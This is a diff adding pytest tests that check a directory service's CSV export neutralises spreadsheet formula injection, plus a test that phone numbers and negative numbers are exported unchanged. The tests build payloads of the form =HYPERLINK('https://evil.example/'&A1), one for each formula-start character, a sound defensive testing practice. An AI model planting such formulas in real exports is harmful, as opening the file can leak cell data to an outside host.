@@ -2,15 +2,19 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import zipfile
 
 import pytest
 from frictionless import Package, system
-from sqlalchemy import select
+from sqlalchemy import inspect, select
 
+from directory.csv_safe import FORMULA_STARTS
+from directory.db import session_factory
 from directory.interop.export import csv_tables, snapshot
+from directory.interop.fields import FIELDS
 from directory.interop.schemas import HSDS_DATAPACKAGE, read_json
 from directory.models import Location
 from tests.api.conformance import DETAIL, assert_conforms
@@ -127,3 +131,55 @@ def test_examples_can_be_left_out(loaded_app, tmp_path):
     assert result.exit_code == 0
     services = json.loads((tmp_path / "services.json").read_text())
     assert services and not any(s.get("x_waymark_example") for s in services)
+
+
+# One payload per character a spreadsheet starts a formula with.
+PAYLOADS = [f'{start}HYPERLINK("https://evil.example/"&A1)' for start in FORMULA_STARTS]
+PHONE = "+44 20 7946 0000"
+
+
+def _is_text(row, column: str) -> bool:
+    """A free-text column (not an id, date, number or enum), filled in or not."""
+    mapped = inspect(type(row)).columns.get(column)
+    return mapped is not None and mapped.type.python_type is str
+
+
+def test_formulas_in_every_exported_text_field_are_neutralised(loaded_app):
+    with session_factory(loaded_app)() as session:
+        found = snapshot(session, include_examples=True)
+        session.expunge_all()  # what follows changes only these copies, never the database
+    planted: dict[str, dict[str, str]] = {}
+    for entity, rows in found.rows.items():
+        for row in rows.values():
+            for n, column in enumerate(FIELDS[entity]):
+                if not _is_text(row, column):
+                    continue
+                value = PHONE if (entity, column) == ("phone", "number") else PAYLOADS[n % 6]
+                setattr(row, column, value)
+                planted.setdefault(entity, {})[column] = value
+
+    texts = csv_tables(found)
+    tables = {
+        r["name"]: list(csv.DictReader(io.StringIO(texts[r["path"]])))
+        for r in read_json(HSDS_DATAPACKAGE)["resources"]
+    }
+
+    checked = 0
+    for entity, columns in planted.items():
+        for column, value in columns.items():
+            written = {row[column] for row in tables[entity] if row[column]}
+            expected = value if value == PHONE else "'" + value
+            assert written == {expected}, (entity, column)
+            checked += 1
+    assert checked > 40 and {"name", "description", "address_1", "notes"} <= {
+        column for columns in planted.values() for column in columns
+    }
+
+
+def test_phone_numbers_and_negative_numbers_are_exported_as_they_are(csv_export, loaded_session):
+    locations = list(csv.DictReader(io.StringIO((csv_export / "locations.csv").read_text())))
+    phones = list(csv.DictReader(io.StringIO((csv_export / "phones.csv").read_text())))
+
+    assert any(row["longitude"].startswith("-") for row in locations)
+    assert all(not row["longitude"].startswith("'") for row in locations)
+    assert phones and all(row["number"][0].isdigit() for row in phones)
